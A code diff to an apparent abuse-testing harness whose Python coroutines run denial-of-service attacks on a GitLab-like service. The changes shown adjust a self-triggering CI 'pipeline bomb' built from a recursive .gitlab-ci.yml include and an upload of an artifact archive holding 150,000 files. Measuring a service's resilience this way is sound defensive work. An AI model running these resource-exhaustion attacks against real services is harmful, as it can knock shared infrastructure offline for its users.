@@ -1,7 +1,7 @@
 """The attacks: each coroutine in `ATTACKS` goes on until it is cancelled, and counts its answers (`200`, `503`, `cut`).
 
 `python -m scripts.abuse.attacks NAME` makes one until SIGTERM. It reads what is attacked from standard input,
-prints a line when it begins, and then the counts."""
+prints a line when it begins, after its preparation, and then the counts."""
 
 import asyncio
 import base64
@@ -21,6 +21,7 @@ from scripts.abuse.environment import (
     LARGE_FILE,
     MEDIUM_FILE,
     AttackTarget,
+    begin,
     connected,
     fetch_in_turn,
     repeat,
@@ -245,6 +246,7 @@ async def gzip_bombs(target: AttackTarget, answers: Answers) -> None:
 
 async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
     """One push of a file that triggers itself six times, and another of a trigger of its own project."""
+    begin()
     project = target.project(target.mine)
     trigger = "bomb{}:\n  trigger:\n    include: .gitlab-ci.yml\n    strategy: depend\n"
     files = {
@@ -267,13 +269,11 @@ async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
 async def artifact_members(target: AttackTarget, answers: Answers) -> None:
     """One archive of very many files, of which one after the other is read."""
     async with session(target.as_attacker) as http:
-        for members in (150_000, 60_000):
-            job = await running_job(target, http, ARTIFACTS_CONFIG)
-            status = await job.upload({f"files/{number:06}.txt": "x" for number in range(members)}).send(http)
-            answers[f"{members} members {status}"] += 1
-            await job.finish().send(http)
-            if status == "201":
-                break
+        job = await running_job(target, http, ARTIFACTS_CONFIG)
+        upload = job.upload({f"files/{number:06}.txt": "x" for number in range(150_000)})
+        begin()
+        answers[f"upload {await upload.send(http)}"] += 1
+        await job.finish().send(http)
     files = f"{target.project(target.mine)}/jobs/{job.id}/artifacts/files"
     urls = [f"{files}/{number:06}.txt" for number in range(8)]
     await fetch_in_turn(urls, 8, answers, target.as_attacker)
@@ -359,5 +359,4 @@ async def attack_until_terminated(name: str, target: AttackTarget) -> Answers:
 if __name__ == "__main__":
     os.nice(10)  # what is measured is the service, not who gets the processor
     attacked = AttackTarget.from_json(sys.stdin.read())
-    print("attacking", flush=True)
     print(json.dumps(asyncio.run(attack_until_terminated(sys.argv[1], attacked))))
